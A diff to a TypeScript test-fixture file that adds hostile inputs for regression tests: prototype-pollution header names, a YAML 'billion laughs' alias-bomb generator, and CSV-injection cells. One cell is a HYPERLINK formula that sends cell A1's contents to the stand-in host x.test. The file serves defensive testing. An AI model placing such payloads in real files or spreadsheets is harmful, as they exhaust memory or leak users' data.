@@ -311,3 +311,22 @@ export function hugeConfig(mb: number): string {
   const item = '"rouge-xxxxxxxxxxxxxxxx", ';
   return `${head}${item.repeat(Math.ceil((mb * 1024 * 1024) / item.length))}"r"]\n`;
 }
+
+// ---------------------------------------------------------------------------------------------
+// Classes handled before issue 13, kept in the suite so they stay handled
+
+/** Header names that would reach Object.prototype if rows were plain objects keyed by them. */
+export const PROTOTYPE_HEADERS = ["__proto__", "constructor", "prototype", "Constructor "];
+
+/** A YAML "billion laughs": nine levels of aliases, each ten times the one below. */
+export function yamlAliasBomb(): string {
+  const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
+  for (let i = 1; i <= 9; i++) {
+    const refs = Array.from({ length: 10 }, () => `*a${i - 1}`).join(",");
+    lines.push(`a${i}: &a${i} [${refs}]`);
+  }
+  return `${lines.join("\n")}\nstores:\n  shop:\n    platform: local\n`;
+}
+
+/** Cells a spreadsheet program would run as formulas (OWASP CSV injection triggers). */
+export const FORMULA_TITLES = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"];
